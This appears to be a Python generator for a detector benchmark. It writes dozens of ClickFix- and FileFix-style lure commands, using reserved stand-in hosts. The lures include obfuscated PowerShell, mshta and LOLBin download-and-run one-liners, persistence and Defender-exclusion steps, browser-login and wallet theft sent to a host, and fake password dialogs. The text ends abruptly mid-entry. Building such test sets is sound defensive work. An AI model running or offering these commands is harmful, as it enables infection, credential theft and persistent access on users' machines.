"""Writes the third blind set, bench/blind/lures-3.jsonl and benign-3.jsonl (bench/blind/README.md,
"blind-3"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind3.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list,
app/detection or any case file), from public threat reports on how lures work. Every text is our
own; lures use reserved names only (*.test, *.invalid, *.example, the documentation IP ranges) and
fictitious phone numbers. Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

import base64
import gzip
import json
import re
from pathlib import Path

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-3.jsonl"
BENIGN_OUT = HERE / "benign-3.jsonl"

# ----------------------------------------------------------------------------------------------
# Helpers for the encodings lures use (computed, so the encoded text really decodes)
# ----------------------------------------------------------------------------------------------


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def char_codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def xor_b64(text: str, key: int) -> str:
    return base64.b64encode(bytes(b ^ key for b in text.encode())).decode()


def hex_spaced(text: str) -> str:
    return " ".join(f"{b:02x}" for b in text.encode())


def hex_run(text: str) -> str:
    return text.encode().hex()


def gzip_b64(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


def reverse(text: str) -> str:
    return text[::-1]


NBSP = "\u00a0"
EMSP = "\u2003"
IDEO = "\u3000"


def pad(n: int, ch: str = " ") -> str:
    return ch * n


# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

RUN = "run_dialog"
EXP = "explorer_bar"
TERM = "terminal"
CON = "browser_console"
UNK = "unknown"

LURES: list[tuple[str, str, str, str, str, str]] = []


def lure(
    technique: str,
    target: str,
    source: str,
    text: str,
    expect: str = "malicious",
    platform: str = "windows",
) -> None:
    LURES.append((technique, target, source, text, expect, platform))


# --- Windows Run box: PowerShell written so that names and addresses are hidden --------------

lure(
    "ps-alias-wildcard",
    RUN,
    "https://www.harbor-dental.example/appointments/confirm",
    "powershell -w 1 -nop -c \"&(gal i?x) (&(gcm i*-w*t) -useb 'https://cdn.verify-node.test/a/7731')\""
    + pad(38)
    + "# ✔ I'm not a robot - Verification ID 55821",
)
lure(
    "ps-dir-wildcard-path",
    RUN,
    "https://recipes-daily.test/soups/leek-and-potato",
    "powershell -c \"$p=(dir C:\\W*\\S*32\\W*\\v1*\\p*l.exe).FullName; & $p -nop -w h -c 'iex (iwr https://203.0.113.61/s.txt -UseB)'\"",
)
lure(
    "ps-string-concat",
    RUN,
    "https://check.cf-human.invalid/?ray=8f21a0c3",
    "powershell -w hidden -c \"$u='ht'+'tps://'+'update-'+'pkg.test/'+'k.ps1';$w=New-Object ('Net.'+'Web'+'Client');iex $w.('Down'+'loadString').Invoke($u)\"",
)
lure(
    "ps-format-operator",
    RUN,
    "https://blog.trailrunners.example/2026/11/race-report",
    "powershell -nop -c \"$o=&('{0}{1}' -f 'New-Obj','ect') ('{2}.{0}{1}' -f 'WebCl','ient','Net'); &('{1}{0}' -f 'ex','i') $o.DownloadString('https://static-cdn.invalid/p/q.txt')\"",
)
lure(
    "ps-join-names",
    RUN,
    "https://captcha.human-gate.test/verify",
    "powershell -c \"$a=-join('i','w','r');$b=-join('i','e','x');&$b (&$a 'https://mirror-sync.test/x' -UseBasicParsing).Content\"",
)
lure(
    "ps-char-codes",
    RUN,
    "https://www.lakeside-rentals.example/booking",
    "powershell -w h -c \"&([string]::join('',[char[]](105,101,120))) ([string]::join('',[char[]]("
    + char_codes("iex (iwr 'https://files.cdn-edge.test/a.txt' -UseBasicParsing)")
    + ')))"',
)
lure(
    "ps-env-letters",
    RUN,
    "https://press.northwind-news.example/story/4410",
    "powershell -c \"&($env:ComSpec[4,15,25]-join'') (irm 'https://relay-check.invalid/c')\""
    + pad(30)
    + "# Cloudflare: verifying you are human (Ray ID 7e0b42ad)",
)
lure(
    "ps-pshome-letters",
    RUN,
    "https://validate.bot-shield.test/cf",
    "powershell -nop -c \".($pshome[4]+$pshome[15]+'x') ((New-Object Net.WebClient).DownloadString('https://198.51.100.23/ld'))\"",
)
lure(
    "ps-reversed-url",
    RUN,
    "https://www.corner-bakery.example/menu",
    "powershell -c \"$s='"
    + reverse("https://access-update.test/a1.txt")
    + "';$r=-join$s[-1..-($s.Length)];iex(iwr $r -useb)\"",
)
lure(
    "ps-replace-scheme",
    RUN,
    "https://human-check.verify-portal.invalid/step2",
    "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('hxxps://files-portal.test/bootstrap'.Replace('hxxps','https')))\"",
)
lure(
    "ps-replace-operator",
    RUN,
    "https://www.vintage-guitars.example/catalog",
    "powershell -w h -c \"&('iQeQx' -replace 'Q','') (&('iQwQr' -replace 'Q','') 'https://q.cdn-static.test/r' -UseB)\"",
)
lure(
    "ps-backtick-ticks",
    RUN,
    "https://docs-viewer.secure-share.test/d/8812",
    "powershell -w h -c \"(New-Ob`ject Net.Web`Client).Down`load`Str`ing('https://share-docs.invalid/v')|I`EX\"",
)
lure(
    "ps-encodedcommand-mixed-case",
    RUN,
    "https://captcha-cloud.test/human",
    "PoWeRsHeLl -NoP -W HiDdEn -eNc "
    + b64_utf16("iex (irm 'https://stage-two.invalid/p.ps1')")
    + "  # I am not a robot - reCAPTCHA ID: 2291",
)
lure(
    "ps-encodedcommand-short",
    RUN,
    "https://www.fjord-hotels.example/rooms",
    "powershell -e "
    + b64_utf16(
        '$w=New-Object Net.WebClient;$w.DownloadFile(\'https://203.0.113.88/u.exe\',"$env:TEMP\\u.exe");Start-Process "$env:TEMP\\u.exe"'
    ),
)
lure(
    "ps-frombase64-utf8",
    RUN,
    "https://verify.turnstile-check.test/",
    "powershell -w h -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
    + b64("iwr https://dl.check-host.invalid/s.ps1 -UseBasicParsing | iex")
    + "')))\"",
)
lure(
    "ps-xor-blob",
    RUN,
    "https://events.cityjazz.example/tickets",
    "powershell -nop -c \"$k=23;$b=[Convert]::FromBase64String('"
    + xor_b64("iex (New-Object Net.WebClient).DownloadString('https://x.tile-cdn.test/t')", 23)
    + "');iex(-join($b|%{[char]($_ -bxor $k)}))\"",
)
lure(
    "ps-hex-string",
    RUN,
    "https://human.cf-verify.invalid/check",
    "powershell -c \"$h='"
    + hex_spaced("irm https://hex-stage.test/n | iex")
    + "';iex(-join($h.Split(' ')|%{[char][convert]::ToInt32($_,16)}))\"",
)
lure(
    "ps-url-unescape",
    RUN,
    "https://www.quiltmakers.example/patterns/free",
    "powershell -c \"iex(irm ([uri]::UnescapeDataString('https%3A%2F%2Fsecure-docs.invalid%2Fload')))\"",
)
lure(
    "ps-irm-property-chain",
    RUN,
    "https://meet-join.test/abc-defg-hij",
    "powershell iex ((irm -Uri https://notes-api.test/v2/fix -Method GET).data.payload)",
)
lure(
    "ps-gzip-blob",
    RUN,
    "https://cf-challenge.example/please-wait",
    "powershell -nop -w h -c \"iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('"
    + gzip_b64("iex (irm https://gz-stage.invalid/m)")
    + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
)
lure(
    "ps-gcm-wildcard-newobject",
    RUN,
    "https://www.alpine-ski-school.example/courses",
    "powershell -c \"$w=&(gcm N*-O*t) Net.WebClient;&(gcm I*e-E*) $w.DownloadString('https://198.51.100.41:8443/k')\"",
)
lure(
    "ps-start-process-msiexec",
    RUN,
    "https://robot-check.verify-now.test/",
    "powershell -w h -c \"Start-Process msiexec -ArgumentList '/i https://198.51.100.77/pkg/setup.msi /qn'\"",
)
lure(
    "ps-bits-transfer-run",
    RUN,
    "https://www.gardenclub-leeds.example/events",
    'powershell -c "Start-BitsTransfer -Source https://cdn.update-files.test/svc.exe -Destination $env:APPDATA\\svc.exe; & $env:APPDATA\\svc.exe"',
)
lure(
    "ps-httpclient",
    RUN,
    "https://view.invoice-portal.invalid/inv/5521",
    "powershell -c \"$h=[Net.Http.HttpClient]::new();iex $h.GetStringAsync('https://cloud-assets.invalid/i').Result\"",
)
lure(
    "ps-scriptblock-create",
    RUN,
    "https://captcha-api-page.example/r/verify",
    'powershell -nop -c "&([scriptblock]::Create((irm https://captcha-api.test/r)))"'
    + pad(25)
    + "# ✅ Human verification passed",
)
lure(
    "ps-downloadfile-anydesk",
    RUN,
    "https://support-center.help-desk-page.example/remote",
    'powershell (New-Object System.Net.WebClient).DownloadFile(\'https://files.help-desk.test/AnyDesk.exe\',"$env:TEMP\\ad.exe");Start-Process "$env:TEMP\\ad.exe"',
)
lure(
    "ps-stego-png",
    RUN,
    "https://www.wedding-photos.example/gallery/anna-tom",
    'powershell -w h -c "Add-Type -A System.Drawing;$i=[Drawing.Bitmap]::FromStream((iwr https://img-host.test/banner.png -useb).RawContentStream);$b=foreach($y in 0..9){foreach($x in 0..99){$i.GetPixel($x,$y).R}};iex([Text.Encoding]::ASCII.GetString([byte[]]$b).Trim([char]0))"',
)
lure(
    "ps-cache-smuggling",
    RUN,
    "https://secure-login.vpn-portal.test/fortinet",
    'powershell -w h -c "$c=Get-ChildItem \\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\" -File|?{(gc $_.FullName -Raw) -match \'CFBEGIN(.+?)CFEND\'}|select -First 1;iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($Matches[1])))"'
    + pad(20)
    + "# Forti Client compliance check",
)
lure(
    "ps-clipboard-wipe",
    RUN,
    "https://www.bookclub-oslo.example/",
    "powershell -w h -c \"iwr https://clip.stage-cdn.test/q.ps1 -UseB|iex; Set-Clipboard -Value ' '\"",
)
lure(
    "ps-wmiclass-create",
    RUN,
    "https://verify.captcha-guard-page.example/",
    "powershell -c \"([wmiclass]'Win32_Process').Create('mshta https://hta.captcha-guard.invalid/v')\"",
)
lure(
    "ps-cim-create",
    RUN,
    "https://www.tiny-homes.example/plans",
    "powershell -c \"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell -w h -c iex(irm https://cim.stage.test/p)'}\"",
)
lure(
    "ps-defender-exclusion-download",
    RUN,
    "https://driver-fix.audio-support-page.example/realtek",
    'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://audio-support.test/drv/u.exe -OutFile $env:APPDATA\\u.exe; saps $env:APPDATA\\u.exe"',
)
lure(
    "ps-schtasks-persistence",
    RUN,
    "https://checkpoint.human-test-page.example/",
    "powershell -c \"schtasks /create /sc minute /mo 30 /tn 'EdgeUpdateCheck' /tr 'powershell -w h -c iex(irm https://tasks.human-test.test/p)' /f\"",
)
lure(
    "cmd-runkey-persistence",
    RUN,
    "https://www.marina-boats.example/charter",
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d "mshta https://sync.one-cloud.test/s" /f',
)
lure(
    "ps-iwr-outfile-hta",
    RUN,
    "https://secure.shipping-track.invalid/parcel/99120",
    "cmd /c start /min powershell iwr https://track-cdn.invalid/c.txt -OutFile C:\\Users\\Public\\label.hta; start C:\\Users\\Public\\label.hta",
)
lure(
    "ps-expand-archive-run",
    RUN,
    "https://www.choir-vienna.example/concerts",
    'powershell -c "iwr https://pack.update-srv.test/pack.zip -OutFile $env:TEMP\\p.zip; Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force; & $env:TEMP\\p\\setup.exe"',
)
lure(
    "ps-remote-file-webdav",
    RUN,
    "https://doc-share.review-file.test/open",
    "powershell -ep bypass -f \\\\files.sync-share.test@SSL\\s\\run.ps1",
)
lure(
    "ps-invoke-command-scriptblock",
    RUN,
    "https://www.potters-guild.example/workshops",
    "powershell -c \"icm -ScriptBlock ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://203.0.113.129/b')))\"",
)
lure(
    "ps-securestring-decode",
    RUN,
    "https://captcha.verify-human.test/s",
    "powershell -c \"$s=ConvertTo-SecureString '"
    + "76492d1116743f0423413b16050a5345MgB8AEQAMwBrAGUAWgA=' -Key (1..16);iex ([Net.NetworkCredential]::new('',$s).Password)\"",
)
lure(
    "ps-iex-alias-invoke-webrequest-ua",
    RUN,
    "https://www.birdwatch-norfolk.example/sightings",
    "powershell -nop -c \"iex (iwr -UserAgent 'Mozilla/5.0' -Uri https://ua-gate.test/in -UseBasicParsing).Content\"",
)

# --- Windows Run box: mshta and other signed programs that fetch or run code -----------------

lure(
    "mshta-url-tail",
    RUN,
    "https://verify-gate-page.example/captcha",
    "mshta https://verify-gate.test/captcha/cf.hta # ✅ I am not a robot: reCAPTCHA ID 4412",
)
lure(
    "mshta-hex-octet-ip",
    RUN,
    "https://www.organic-farm-box.example/subscribe",
    "mshta http://203.0.0x71.9/doc/index.gz",
)
lure(
    "mshta-decimal-ip",
    RUN,
    "https://www.harpsichord-society.example/",
    f"mshta http://{203 * 2**24 + 0 * 2**16 + 113 * 256 + 9}/v",
)
lure(
    "mshta-vbscript-inline",
    RUN,
    "https://robotcheck.cf-gate-page.example/",
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c iwr https://cf-gate.invalid/a.ps1 -useb|iex"",0:close")',
)
lure(
    "mshta-javascript-inline",
    RUN,
    "https://www.kite-surf-tarifa.example/lessons",
    "mshta \"javascript:a=new ActiveXObject('WScript.Shell');a.Run('powershell -nop -w h -c iex(irm https://203.0.113.14/j)',0);close()\"",
)
lure(
    "mshta-media-name",
    RUN,
    "https://fonts-verify-page.example/missing-font",
    "mshta https://fonts-verify.test/fonts/Roboto-Regular.woff2",
)
lure(
    "mshta-nbsp-padding",
    RUN,
    "https://www.snowshoe-tours.example/",
    "mshta https://pad.nbsp-cdn.invalid/p"
    + pad(60, NBSP)
    + "# Cloudflare verification complete. Ray ID: 8c1f77e20a",
)
lure(
    "mshta-emspace-homoglyph-tail",
    RUN,
    "https://human.verify-pass-page.example/",
    "mshta https://verify-pass.test/h.hta"
    + pad(40, EMSP)
    + "# ✅ hυmаn vаlіdаtіοn cοmрlеtе — ID 8812",
)
lure(
    "mshta-fake-windows-update",
    RUN,
    "https://windows-update.kb-center.test/KB5048652",
    "mshta http://198.51.100.144/ #  Windows Update KB5048652 - Install security update",
)
lure(
    "rundll32-webdav-dll",
    RUN,
    "https://scan.docu-sign-view.test/envelope",
    "rundll32 \\\\198.51.100.14@SSL\\DavWWWRoot\\sys\\vc.dll,Start",
)
lure(
    "rundll32-zipfldr",
    RUN,
    "https://www.quarry-climbing.example/",
    "rundll32.exe zipfldr.dll,RouteTheCall \\\\203.0.113.66\\pub\\Setup.exe",
)
lure(
    "rundll32-advpack-inf",
    RUN,
    "https://human-check-page.example/step",
    "rundll32 advpack.dll,LaunchINFSection \\\\human-check.invalid@SSL\\a\\x.inf,DefaultInstall_SingleUser,1,",
)
lure(
    "rundll32-mshtml-sct",
    RUN,
    "https://www.city-marathon.example/results",
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://sct-host.test/r.sct")',
)
lure(
    "regsvr32-scrobj",
    RUN,
    "https://captcha.browser-verify-page.example/",
    "regsvr32 /s /n /u /i:https://browser-verify.test/f.sct scrobj.dll",
)
lure(
    "regsvr32-unc-cmdkey",
    RUN,
    "https://www.meadow-yoga.example/classes",
    "cmd.exe /c cmdkey /add:198.51.100.8 /user:guest /pass:guest && regsvr32 /s \\\\198.51.100.8\\pub\\a.dll & REM Human check ✓ Ray 82ad",
)
lure(
    "msiexec-url",
    RUN,
    "https://device-verification-page.example/cf",
    "msiexec /q /i https://device-verification.test/CaptchaVerify.msi",
)
lure(
    "msiexec-mixed-case-backslash",
    RUN,
    "https://www.wine-tasting-bordeaux.example/",
    '"C:\\Windows\\System32\\MsIeXeC.eXe" -PAcKaGe http:\\\\cdn-hub.test\\tmp\\..\\check\\55102 /qn',
)
lure(
    "certutil-urlcache",
    RUN,
    "https://verify.secure-captcha-page.example/",
    "certutil -urlcache -split -f https://secure-captcha.invalid/k.exe %TEMP%\\k.exe && %TEMP%\\k.exe",
)
lure(
    "bitsadmin-transfer",
    RUN,
    "https://www.chess-club-zagreb.example/",
    "bitsadmin /transfer j /download /priority high https://bits.file-mirror.test/m.exe %PUBLIC%\\m.exe & start %PUBLIC%\\m.exe",
)
lure(
    "curl-wscript-vbs",
    RUN,
    "https://verify-you-page.example/human",
    "cmd /c curl -s -o %TEMP%\\z.vbs https://verify-you.test/z.vbs & wscript //B %TEMP%\\z.vbs",
)
lure(
    "curl-cscript-jscript-log",
    RUN,
    "https://www.old-maps.example/collection",
    "cmd /c curl -so %TEMP%\\l.log https://maps-cdn.invalid/l && cscript //nologo //E:JScript %TEMP%\\l.log",
)
lure(
    "echo-vbs-xmlhttp",
    RUN,
    "https://robot.check-page-page.example/",
    'cmd /c "echo Set x=CreateObject("MSXML2.XMLHTTP"):x.Open "GET","https://check-page.test/u",0:x.Send:Execute x.responseText>%TEMP%\\u.vbs&&wscript %TEMP%\\u.vbs"',
)
lure(
    "syncappv-proxy",
    RUN,
    "https://www.antique-clocks.example/",
    "C:\\Windows\\System32\\SyncAppvPublishingServer.vbs \"n;(iwr 'https://appv.stage.test/s' -useb)|iex\"",
)
lure(
    "forfiles-proxy",
    RUN,
    "https://check.human-cf-page.example/",
    'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c mshta https://human-cf.test/f"',
)
lure(
    "pcalua-unc",
    RUN,
    "https://www.rowing-club-henley.example/",
    "pcalua.exe -a \\\\198.51.100.19\\share\\setup.exe",
)
lure(
    "conhost-headless",
    RUN,
    "https://cf.verify-browser-page.example/",
    'conhost.exe --headless powershell -w h -c "iex(irm https://verify-browser.invalid/c)"',
)
lure(
    "conhost-headless-tar-rundll32",
    RUN,
    "https://www.beekeepers-assoc.example/honey",
    'conhost.exe --headless cmd /c "md %TEMP%\\q & curl -skLo %TEMP%\\q\\t https://tar-drop.test/d & pushd %TEMP%\\q & tar xf t & del t & rundll32 helper.dll,#1"',
)
lure(
    "wmic-process-create",
    RUN,
    "https://human-verify.page-page.example/",
    'wmic process call create "powershell -w h -c iwr https://page.test/w -useb | iex"',
)
lure(
    "ssh-proxycommand",
    RUN,
    "https://www.folk-dance-lviv.example/",
    'ssh -o ProxyCommand="powershell -w h -c iex(irm https://203.0.113.50/t)" x@y',
)
lure(
    "msbuild-unc",
    RUN,
    "https://verify.bot-check.invalid/",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe \\\\198.51.100.3\\b\\build.xml",
)
lure(
    "odbcconf-regsvr",
    RUN,
    "https://www.paddle-board-rental.example/",
    "odbcconf /a {REGSVR \\\\203.0.113.71\\x\\odbc.dll}",
)
lure(
    "curl-exe-start",
    RUN,
    "https://captcha.secure-gate-page.example/",
    'cmd /c curl -L -o %LOCALAPPDATA%\\t.exe https://secure-gate.test/t.exe && start "" %LOCALAPPDATA%\\t.exe',
)
lure(
    "cmd-caret-obfuscation",
    RUN,
    "https://www.theatre-bristol.example/tickets",
    "cm^d /c po^wer^sh^ell -w hid^den -c iw^r https://caret.stage.test/s.ps1 -OutF^ile %TEMP%\\s.ps1 ^& po^wersh^ell -ep byp^ass -f %TEMP%\\s.ps1",
)
lure(
    "cmd-substring-call",
    RUN,
    "https://human.gate-check-page.example/",
    'cmd /c "set z=apowershellx&& call %z:~1,10% -w h -c iwr https://gate-check.test/z -useb ^| iex"',
)
lure(
    "cmd-delayed-expansion",
    RUN,
    "https://www.pizza-napoli-leeds.example/order",
    'cmd /v:on /c "set a=ms&&set b=hta&& !a!!b! https://delay.cdn-one.test/h"',
)
lure(
    "cmd-env-staging-call",
    RUN,
    "https://verify.now-check.invalid/",
    'cmd /c "set a=power&& set b=shell&& call %a%%b% -w h -c iwr https://198.51.100.23/v.ps1 -OutFile $env:TEMP\\v.ps1; & $env:TEMP\\v.ps1"',
)
lure(
    "finger-pipe-cmd",
    RUN,
    "https://www.calligraphy-school.example/",
    'cmd /c start "" /min cmd /c "finger gate@203.0.113.33 | cmd" & echo Verifying you are human... please wait',
)
lure(
    "finger-renamed-copy",
    RUN,
    "https://browser-crash.recover-tab-page.example/",
    "cmd /c copy %windir%\\system32\\finger.exe %TEMP%\\ct.exe & %TEMP%\\ct.exe x8@relay.recover-tab.test | cmd",
)
lure(
    "finger-carets",
    RUN,
    "https://www.tango-buenosaires.example/",
    'c^m^d /c "f^in^ger loader@203.0.113.87 | c^md"',
)
lure(
    "nslookup-txt-for",
    RUN,
    "https://verify.dns-gate.test/",
    'cmd /c "for /f "skip=4 tokens=1* delims=:" %a in (\'nslookup -q=txt boot.stage-dns.test 198.51.100.53\') do @%b"',
)
lure(
    "nslookup-name-field",
    RUN,
    "https://www.ferry-timetables.example/",
    'cmd /c "for /f "tokens=1,* delims=:" %i in (\'nslookup verify.session.test 203.0.113.53 ^| findstr Name\') do powershell -nop -c %j"',
)
lure(
    "dns-resolve-dnsname",
    RUN,
    "https://human.zone-check.invalid/",
    "powershell -c \"iex ((Resolve-DnsName -Type TXT cfg.zone-check.invalid).Strings -join '')\"",
)
lure(
    "webdav-net-use-batch",
    RUN,
    "https://www.lighthouse-museum.example/",
    "cmd /c net use X: https://files.share-drop.test/dav /persistent:no && X:\\check.bat & net use X: /d /y",
)
lure(
    "webdav-pushd-start",
    RUN,
    "https://share.review-doc.invalid/file/33",
    "cmd /c pushd \\\\203.0.113.44@8080\\DavWWWRoot\\tools && start update.exe",
)
lure(
    "search-ms-webdav",
    RUN,
    "https://www.invoice-archive.example/download",
    "search-ms:query=Invoice&crumb=location:\\\\198.51.100.90@SSL\\DavWWWRoot\\docs&displayname=Downloads",
    "flagged",
)
lure(
    "unc-lnk-only",
    RUN,
    "https://verify.doc-portal.test/",
    "\\\\203.0.113.9\\webdav\\Document.pdf.lnk",
    "flagged",
)
lure(
    "url-exe-verify-tail",
    RUN,
    "https://download-center-page.example/chrome",
    "https://download-center.test/Chrome_Update_131.exe  # ✓ Verified secure download ID 29481",
)
lure(
    "url-hta-verify-tail",
    RUN,
    "https://www.dog-grooming-cardiff.example/",
    "http://198.51.100.61/verify.hta" + pad(45) + "# I'm not a robot ✔ reCAPTCHA 6Lc-ID 33017",
)
lure(
    "winget-rmm-scam",
    RUN,
    "https://microsoft-support.help-line.test/case/4471",
    "winget install --id AnyDesk.AnyDesk -e --silent --accept-package-agreements",
    "flagged",
)
lure(
    "cmd-hidden-ps-encoded-spaces",
    RUN,
    "https://www.surfcamp-algarve.example/",
    'cmd /c start /min "" powershell -WindowStyle Hidden -EncodedCommand '
    + b64_utf16("Invoke-Expression (Invoke-RestMethod 'https://enc.stage-cdn.invalid/p')"),
)
lure(
    "ps-ipfs-gateway",
    RUN,
    "https://claim.airdrop-portal.test/",
    'powershell -c "irm https://ipfs.gateway.test/ipfs/bafybeigdyrztq4x7m2k3/p.ps1 | iex"',
)
lure(
    "mshta-about-vbscript",
    RUN,
    "https://www.hill-walks-wales.example/",
    'mshta "about:<script language=vbscript>CreateObject("WScript.Shell").Run "cmd /c curl -s https://about.stage.test/a|cmd",0:close</script>"',
)

# --- FileFix: a command pasted into Explorer's address bar behind a fake path ----------------

lure(
    "filefix-ps-docx-path",
    EXP,
    "https://hr-portal.policy-share-page.example/file/2026",
    'powershell -c "iwr https://policy-share.test/f.ps1 -useb|iex"'
    + pad(70)
    + "# C:\\Company\\HR\\Policies\\2026_Benefits_Update.docx",
)
lure(
    "filefix-ideographic-space",
    EXP,
    "https://www.shared-docs.example/open?id=8821",
    "cmd /c mshta https://ideo.cdn-docs.invalid/o"
    + pad(50, IDEO)
    + "# C:\\Users\\Public\\Documents\\Contract_Signed.pdf",
)
lure(
    "filefix-full-path-unc-tail",
    EXP,
    "https://finance-share.q4-review.test/",
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ep bypass -w h -c \"$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','PowerShell');$w.DownloadString('http://198.51.100.201')|iex\""
    + pad(60)
    + "# \\\\fileserver\\Finance\\Q4\\Invoice-55120.pdf",
)
lure(
    "filefix-finger",
    EXP,
    "https://www.cyclists-union.example/members",
    "finger grab@198.51.100.71|cmd"
    + pad(80)
    + "# C:\\Users\\Public\\Shared\\Membership_Renewal.pdf",
)
lure(
    "filefix-conhost",
    EXP,
    "https://docs.team-drive-page.example/share",
    'conhost --headless cmd /c "curl -s https://team-drive.invalid/c | cmd"'
    + pad(64)
    + "# C:\\TeamDrive\\Projects\\Budget_2027.xlsx",
)
lure(
    "filefix-stego-jpg",
    EXP,
    "https://photo-share.album-view-page.example/a/77",
    "powershell -w h -c \"$d=(iwr https://album-view.test/view.jpg -useb).Content;$s=[Text.Encoding]::UTF8.GetString($d);iex $s.Substring($s.IndexOf('#>')+2)\""
    + pad(55)
    + "# C:\\Photos\\Holiday\\IMG_2044.jpg",
)
lure(
    "filefix-msiexec",
    EXP,
    "https://www.shipping-docs.example/bol",
    "msiexec /qn /i https://bol-docs.test/viewer.msi"
    + pad(70)
    + "# C:\\Shipping\\BillOfLading_88120.pdf",
)
lure(
    "filefix-pushd-unc",
    EXP,
    "https://portal.legal-docs-page.example/",
    "cmd /c pushd \\\\legal-docs.invalid@SSL\\cases && start view.cmd"
    + pad(66)
    + "# C:\\Legal\\Case_2026-114\\Summons.pdf",
)
lure(
    "filefix-upload-dialog",
    EXP,
    "https://upload.id-verify-page.example/kyc",
    'powershell -w h -nop -c "irm https://id-verify.test/k | iex"'
    + pad(90)
    + "# C:\\Users\\Documents\\Passport_Scan.jpg",
)

# --- Windows Terminal (Win+X, I) ---------------------------------------------------------------

lure(
    "terminal-irm-iex-comment",
    TERM,
    "https://check.human-terminal-page.example/",
    "irm https://human-terminal.test/t | iex  # Windows Terminal verification step 2 of 2",
)
lure(
    "terminal-hex-bytes",
    TERM,
    "https://www.mountain-huts.example/reserve",
    "$h='"
    + hex_run("iex (irm https://hexbytes.stage.invalid/x)")
    + "';$b=[byte[]]::new($h.Length/2);for($i=0;$i -lt $h.Length;$i+=2){$b[$i/2]=[Convert]::ToByte($h.Substring($i,2),16)};iex([Text.Encoding]::UTF8.GetString($b))",
)
lure(
    "terminal-fake-ai-installer",
    TERM,
    "https://claude-code-docs.example/setup",
    "irm https://claude-code.install-ai.test/install.ps1 | iex",
)
lure(
    "terminal-iwr-outfile-start",
    TERM,
    "https://www.sailing-regatta.example/entry",
    "iwr https://regatta-files.test/Entry_Form.exe -OutFile $env:TEMP\\Entry_Form.exe; Start-Process $env:TEMP\\Entry_Form.exe -WindowStyle Hidden",
)
lure(
    "terminal-trusted-then-untrusted",
    TERM,
    "https://dev-setup.tools-guide.test/node",
    "winget install OpenJS.NodeJS.LTS; irm https://198.51.100.99/postinstall.ps1 | iex",
)
lure(
    "terminal-ps-wallet-steal",
    TERM,
    "https://airdrop.claim-rewards-page.example/",
    'Compress-Archive -Path "$env:APPDATA\\Exodus\\exodus.wallet" -DestinationPath $env:TEMP\\w.zip -Force; Invoke-RestMethod -Uri https://claim-rewards.test/u -Method Post -InFile $env:TEMP\\w.zip',
)
lure(
    "terminal-browser-profile-exfil",
    TERM,
    "https://www.fishing-charters-kerry.example/",
    '$p="$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data";Copy-Item $p $env:TEMP\\ld;curl.exe -F "f=@$env:TEMP\\ld" https://203.0.113.140/up',
)

# --- macOS Terminal --------------------------------------------------------------------------

lure(
    "macos-base64-bash",
    TERM,
    "https://verify.cloud-check.test/mac",
    'echo "' + b64("curl -s http://198.51.100.5/d/agent | nohup bash &") + '" | base64 -d | bash',
    platform="macos",
)
lure(
    "macos-base64-url-zsh",
    TERM,
    "https://www.jazz-records-paris.example/",
    "curl -kfsSL $(echo '" + b64("https://mac-stage.invalid/z/install") + "'|base64 -D)|zsh",
    platform="macos",
)
lure(
    "macos-osascript-pipe",
    TERM,
    "https://cf-verify.macos-check-page.example/",
    'curl -k -s --max-time 30 -H "User-Agent: Mozilla/5.0" "https://macos-check.test/debug/x.applescript?b=3447" | osascript',
    platform="macos",
)
lure(
    "macos-osascript-do-shell",
    TERM,
    "https://www.ceramics-studio-kyoto.example/",
    "osascript -e 'do shell script \"curl -s https://do-shell.stage.test/x | bash\"'",
    platform="macos",
)
lure(
    "macos-xattr-chain",
    TERM,
    "https://get-verified.apple-id-check-page.example/",
    "curl -o /tmp/SysHelper https://apple-id-check.test/SysHelper && xattr -c /tmp/SysHelper && chmod +x /tmp/SysHelper && /tmp/SysHelper",
    platform="macos",
)
lure(
    "macos-quarantine-app",
    TERM,
    "https://www.free-mac-cleaner.example/download",
    "curl -L https://cleaner-cdn.invalid/Cleaner.zip -o /tmp/c.zip && unzip -oq /tmp/c.zip -d /Applications && xattr -rd com.apple.quarantine /Applications/MacCleanerPro.app && open /Applications/MacCleanerPro.app",
    platform="macos",
)
lure(
    "macos-dscl-password",
    TERM,
    "https://security-update.mac-support-page.example/",
    'read -s -p \'System password: \' p; dscl . -authonly "$USER" "$p" && echo "$p" | sudo -S sh -c "$(curl -fsSL https://mac-support.test/s.sh)"',
    platform="macos",
)
lure(
    "macos-dialog-password-post",
    TERM,
    "https://www.yarn-shop-dublin.example/",
    'osascript -e \'text returned of (display dialog "macOS needs your password to finish the security update." default answer "" with hidden answer)\' | curl -s -X POST -d @- https://pw-collect.test/p',
    platform="macos",
)
lure(
    "macos-launchagent",
    TERM,
    "https://verify.human-mac-page.example/",
